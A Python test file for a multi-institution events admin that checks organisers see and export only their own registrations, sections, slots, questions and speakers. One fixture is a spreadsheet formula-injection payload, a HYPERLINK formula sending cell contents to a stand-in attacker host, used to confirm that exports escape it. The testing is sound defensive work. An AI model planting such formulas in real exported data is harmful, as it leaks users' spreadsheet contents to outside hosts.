"""Two institutions' organisers in the events admin: each lists, filters, searches, sorts
and exports only their own events' rows; a union admin sees everything."""

import csv
import io

import pytest
from openpyxl import load_workbook

from mura.events.models import ExtraQuestion
from mura.events.services import registration_create
from mura.events.tests.factories import (
    SectionFactory,
    SlotFactory,
    SpeakerFactory,
    make_event,
    registration_data,
)
from mura.institutions.models import Role
from mura.institutions.services import membership_grant
from mura.institutions.tests.factories import InstitutionFactory, UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def forums(site_tree):
    home = site_tree["home"]
    almaty, astana = InstitutionFactory(), InstitutionFactory()
    spring = make_event(home, institution=almaty, title="Көктемгі форум")
    autumn = make_event(home, institution=almaty, title="Күзгі семинар")
    theirs = make_event(home, institution=astana, title="Астана конгресі")
    people = [
        (spring, "Айгүл Сейітова"),
        (spring, "Бауыржан Омаров"),
        (autumn, "Жанар Кәрімова"),
        (theirs, "Дәурен Бөтенов"),
        (theirs, FORMULA),
    ]
    for number, (event, name) in enumerate(people, start=1):
        registration_create(
            event=event, data=registration_data(number, name=name), sections=[]
        )
    for event, title in ((spring, "Цифрлық қор"), (autumn, "Балалар оқуы")):
        section = SectionFactory(event=event, title_kk=title)
        SlotFactory(event=event, section=section, title_kk=f"{title}: баяндама")
        ExtraQuestion.objects.create(event=event, label_kk=f"{title}: сұрақ")
    SectionFactory(event=theirs, title_kk="Астана секциясы")
    SlotFactory(event=theirs, title_kk="Астана баяндамасы")
    ExtraQuestion.objects.create(event=theirs, label_kk="Астана сұрағы")
    SpeakerFactory(name="Цифрлық қор маманы", country="KZ")
    SpeakerFactory(name="Балалар оқуы маманы", country="MN")
    organisers = {}
    for key, institution in (("almaty", almaty), ("astana", astana)):
        organisers[key] = UserFactory()
        membership_grant(
            user=organisers[key], institution=institution, role=Role.ORGANISER
        )
    return {
        "spring": spring,
        "autumn": autumn,
        "theirs": theirs,
        "organisers": organisers,
    }


def _csv_rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _names(client, query: str) -> list[str]:
    rows = _csv_rows(client, f"/admin/event_registrations/?{query}&export=csv")
    return [row[1] for row in rows[1:]]


def test_each_organiser_exports_only_their_own_registrations(client, forums):
    client.force_login(forums["organisers"]["almaty"])
    assert sorted(_names(client, "")) == [
        "Айгүл Сейітова",
        "Бауыржан Омаров",
        "Жанар Кәрімова",
    ]
    client.force_login(forums["organisers"]["astana"])
    assert sorted(_names(client, "")) == ["'" + FORMULA, "Дәурен Бөтенов"]


def test_event_filter_narrows_the_listing_and_both_exports(client, forums):
    client.force_login(forums["organisers"]["almaty"])
    spring = forums["spring"].pk
    assert sorted(_names(client, f"event={spring}")) == [
        "Айгүл Сейітова",
        "Бауыржан Омаров",
    ]
    xlsx = client.get(f"/admin/event_registrations/?event={spring}&export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)} == {
        "Айгүл Сейітова",
        "Бауыржан Омаров",
    }
    listing = client.get(f"/admin/event_registrations/?event={spring}").content
    assert "Жанар Кәрімова" not in listing.decode()


def test_another_institutions_event_is_neither_offered_nor_exported(client, forums):
    client.force_login(forums["organisers"]["almaty"])
    listing = client.get("/admin/event_registrations/").content.decode()
    assert "Көктемгі форум" in listing and "Астана конгресі" not in listing
    names = _names(client, f"event={forums['theirs'].pk}")
    assert "Дәурен Бөтенов" not in names and "'" + FORMULA not in names


def test_search_and_sorting_change_the_rows(client, forums):
    client.force_login(forums["organisers"]["almaty"])
    assert _names(client, "q=Омаров") == ["Бауыржан Омаров"]
    ascending = _names(client, "ordering=name")
    assert ascending == sorted(ascending)
    assert _names(client, "ordering=-name") == list(reversed(ascending))


def test_union_admin_sees_every_institutions_registrations(client, forums):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    assert len(_names(client, "")) == 5
    assert _names(client, f"event={forums['theirs'].pk}&q=Дәурен") == ["Дәурен Бөтенов"]


@pytest.mark.parametrize(
    ("listing", "own", "other"),
    [
        ("event_sections", "Цифрлық қор", "Астана секциясы"),
        ("event_slots", "Цифрлық қор: баяндама", "Астана баяндамасы"),
        ("event_questions", "Цифрлық қор: сұрақ", "Астана сұрағы"),
    ],
)
def test_programme_listings_filter_and_search_within_own_events(
    client, forums, listing, own, other
):
    client.force_login(forums["organisers"]["almaty"])
    everything = client.get(f"/admin/{listing}/").content.decode()
    assert own in everything and "Балалар оқуы" in everything
    assert other not in everything
    spring_only = client.get(
        f"/admin/{listing}/?event={forums['spring'].pk}"
    ).content.decode()
    assert own in spring_only and "Балалар оқуы" not in spring_only
    searched = client.get(f"/admin/{listing}/?q=Балалар").content.decode()
    assert "Балалар оқуы" in searched and own not in searched


def test_speakers_listing_searches_filters_and_sorts(client, forums):
    client.force_login(forums["organisers"]["almaty"])
    searched = client.get("/admin/event_speakers/?q=Балалар").content.decode()
    assert "Балалар оқуы маманы" in searched and "Цифрлық қор маманы" not in searched
    filtered = client.get("/admin/event_speakers/?country=KZ").content.decode()
    assert "Цифрлық қор маманы" in filtered and "Балалар оқуы маманы" not in filtered
    descending = client.get("/admin/event_speakers/?ordering=-name").content.decode()
    assert descending.index("Цифрлық қор маманы") < descending.index(
        "Балалар оқуы маманы"
    )
